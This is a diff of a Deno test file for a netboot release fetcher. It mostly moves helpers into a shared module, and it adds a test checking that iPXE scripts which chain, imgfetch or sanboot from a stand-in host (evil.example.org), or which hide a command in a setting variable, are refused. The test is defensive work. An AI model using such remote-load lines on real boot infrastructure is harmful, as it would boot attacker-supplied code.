@@ -6,97 +6,19 @@
  */
 import assert from "node:assert/strict";
 import * as fs from "node:fs/promises";
-import * as os from "node:os";
 import * as path from "node:path";
-import { bootFilesByName, bootFilesOfScript, rewriteIpxe } from "../scripts/lib/ipxe.ts";
-import { baseEnv, type Run, runRelease, sha256sumCheck } from "./run_helpers.ts";
-import { sha256, TOKEN, type World, world } from "./forgejo_world.ts";
-
-const API = "/api/v1/repos/ops/runners";
-const SCRIPT = `#!ipxe
-kernel https://boot.example.org/files/bzImage init=/nix/store/abc-system/init initrd=initrd \${cmdline}
-initrd https://boot.example.org/files/initrd
-boot
-`;
-
-async function api(w: World, method: string, route: string, body?: BodyInit, json = true) {
-  const answer = await fetch(`${w.forgejo.url}${API}${route}`, {
-    method,
-    headers: {
-      authorization: `token ${TOKEN}`,
-      "content-type": json ? "application/json" : "application/octet-stream",
-    },
-    body,
-  });
-  const text = await answer.text();
-  assert.ok(answer.ok, `${method} ${route}: ${answer.status} ${text}`);
-  return text ? JSON.parse(text) : undefined;
-}
-
-/** Publishes `files` and their SHA256SUMS under `tag` the way another tool would. */
-async function releaseByHand(
-  w: World,
-  tag: string,
-  files: Record<string, string>,
-): Promise<Record<string, string>> {
-  const release = await api(
-    w,
-    "POST",
-    "/releases",
-    JSON.stringify({ tag_name: tag, target_commitish: w.work.commit, name: tag }),
-  );
-  const sums = Object.entries(files)
-    .map(([name, text]) => `${sha256(new TextEncoder().encode(text))}  ${name}\n`).join("");
-  for (const [name, text] of [...Object.entries(files), ["SHA256SUMS", sums]]) {
-    const query = new URLSearchParams({ name });
-    await api(w, "POST", `/releases/${release.id}/assets?${query}`, text, false);
-  }
-  return files;
-}
-
-/** A netboot release of another tool's making; its bytes carry the tag. */
-function netboot(tag: string): Record<string, string> {
-  return {
-    "runner.ipxe": SCRIPT,
-    bzImage: `kernel of ${tag}\n`,
-    initrd: `initrd of ${tag}\n`,
-    "notes.txt": "not a boot file\n",
-  };
-}
-
-function fetchTag(w: World, out: string, tag: string, args: string[] = []): Promise<Run> {
-  return w.fetch(out, ["--tag", tag, ...args]);
-}
-
-async function rollback(out: string): Promise<Run> {
-  return await runRelease(["fetch", "--rollback", "--out", out], { env: baseEnv() });
-}
-
-/** A world, a scratch directory holding DIR (`pxe`) and a place outside it. */
-async function scene(test: (w: World, out: string, outside: string) => Promise<void>) {
-  const w = await world();
-  const scratch = await fs.mkdtemp(path.join(os.tmpdir(), "release-boot-bootdir-"));
-  const outside = path.join(scratch, "outside");
-  await fs.mkdir(outside);
-  try {
-    await test(w, path.join(scratch, "pxe"), outside);
-  } finally {
-    await w.close();
-    await fs.rm(scratch, { recursive: true, force: true });
-  }
-}
-
-function problemLines(run: Run): string[] {
-  return run.stderr.split("\n").filter((line) => line.startsWith("release-boot:"));
-}
-
-function assertOneLineFailure(run: Run, pattern: RegExp): void {
-  assert.equal(run.code, 1, run.stderr);
-  const problems = problemLines(run);
-  assert.equal(problems.length, 1, run.stderr);
-  assert.match(problems[0], pattern);
-  assert.doesNotMatch(run.stderr, /\n\s+at /, "no stack trace");
-}
+import { bootFilesByName, bootFilesOfScript } from "../scripts/lib/ipxe.ts";
+import { type Run, runMain, sha256sumCheck } from "./run_helpers.ts";
+import { sha256, world } from "./forgejo_world.ts";
+import {
+  api,
+  assertOneLineFailure,
+  fetchTag,
+  netboot,
+  releaseByHand,
+  rollback,
+  scene,
+} from "./boot_dir_helpers.ts";
 
 Deno.test("a release without manifest.json boots from what its iPXE script names", () =>
   scene(async (w, out) => {
@@ -169,7 +91,7 @@ Deno.test("rollback without a previous release says so in one line and changes n
     const run = await rollback(out);
     assertOneLineFailure(run, /has no previous release to roll back to/);
     assert.equal(await fs.readlink(path.join(out, "current")), "boot-v1");
-    const usage = await runRelease(["fetch", "--rollback", "--out", out, "--tag", "boot-v1"]);
+    const usage = await runMain(["fetch", "--rollback", "--out", out, "--tag", "boot-v1"]);
     assert.equal(usage.code, 2);
     assert.match(usage.stderr, /--rollback takes only --out DIR, not --tag/);
   }));
@@ -247,6 +169,7 @@ Deno.test("planted links in DIR are refused, never written through; nothing outs
     await untouched();
   }));
 
+// Child processes: the lock is between two processes, each with its own pid.
 Deno.test("one fetch at a time per DIR: a second one stops in one line; a dead one's lock is taken over", () =>
   scene(async (w, out) => {
     await releaseByHand(w, "boot-v1", netboot("boot-v1"));
@@ -291,7 +214,7 @@ Deno.test("one fetch at a time per DIR: a second one stops in one line; a dead o
     );
     assert.equal(await fs.lstat(lock).catch(() => undefined), undefined, "the lock is released");
     assert.deepEqual((await fs.readdir(out)).sort(), ["boot-v1", "boot-v2", "current", "previous"]);
-  }));
+  }, world));
 
 Deno.test("without manifest.json, the iPXE script's kernel and initrd lines say what to boot", () => {
   const sums = new Map([
@@ -310,7 +233,7 @@ Deno.test("without manifest.json, the iPXE script's kernel and initrd lines say 
   assert.deepEqual(boot.files.map((file) => file.name), ["boot.ipxe", "vmlinuz 6.6", "initrd.zst"]);
   assert.equal(boot.scripts[0].name, "netboot.ipxe");
   assert.equal(
-    rewriteIpxe(script, boot.scripts[0].locate).split("\n")[1],
+    boot.scripts[0].text.split("\n")[1],
     "kernel --name k vmlinuz%206.6 initrd=initrd.zst quiet",
   );
   assert.throws(
@@ -326,6 +249,35 @@ Deno.test("without manifest.json, the iPXE script's kernel and initrd lines say 
     () => bootFilesByName(new Map([["a-bzImage", "a"], ["b-bzImage", "b"], ["initrd", "c"]]), "v1"),
     /cannot tell what to boot/,
   );
+});
+
+Deno.test("a script's every command is read: joined loads, SAN disks, DHCP's file and commands a setting names are refused", () => {
+  const sums = new Map([
+    ["boot.ipxe", "1".repeat(64)],
+    ["bzImage", "2".repeat(64)],
+    ["initrd", "3".repeat(64)],
+  ]);
+  const script = (extra: string) =>
+    `#!ipxe\nkernel --name k https://cdn.example.org/bzImage\ninitrd initrd\n${extra}\n`;
+  // A name the script gave an image it loaded from the release runs that image.
+  const served = bootFilesOfScript("boot.ipxe", script("boot k || goto failed"), sums, "v1");
+  assert.match(served.scripts[0].text, /^kernel --name k bzImage$/m);
+  for (
+    const extra of [
+      "dhcp && chain http://evil.example.org/next.ipxe",
+      "initrd initrd ; imgfetch http://evil.example.org/more.cpio",
+      "sanboot http://evil.example.org/disk.iso",
+      "autoboot",
+      "set c chain\n${c} http://evil.example.org/next.ipxe",
+      "chain boot.ipxe",
+    ]
+  ) {
+    assert.throws(
+      () => bootFilesOfScript("boot.ipxe", script(extra), sums, "v1"),
+      /boot\.ipxe of v1, line \d \(".+"\), loads from outside v1: refusing/,
+      extra,
+    );
+  }
 });
 
 Deno.test("file names a release gives that are not plain file names are refused, never written", () =>
